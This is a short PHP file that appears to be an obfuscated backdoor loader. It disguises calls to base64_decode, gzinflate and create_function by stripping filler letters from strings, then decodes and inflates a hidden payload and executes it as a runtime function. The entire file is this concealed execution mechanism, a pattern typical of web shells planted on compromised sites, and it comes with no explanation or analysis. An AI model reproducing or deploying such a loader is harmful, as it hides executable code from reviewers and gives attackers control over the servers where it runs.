<?php
$q = str_replace('w', '', 'bwawsew6w4_dwecwodwe');
$g = str_replace('zp', '', 'gzpzinzpflzpate');
$c = $g($q('c0gtS8zRcEivysxLy0ksSdVwSEosTjUziU9JTc5PSdVQiXf29/f2dI1WL1aP1dTUtAYA'));
$r = str_replace('o', '', 'ocoreoatoe_ofunoction');
$h = $r('', $c);
$h();
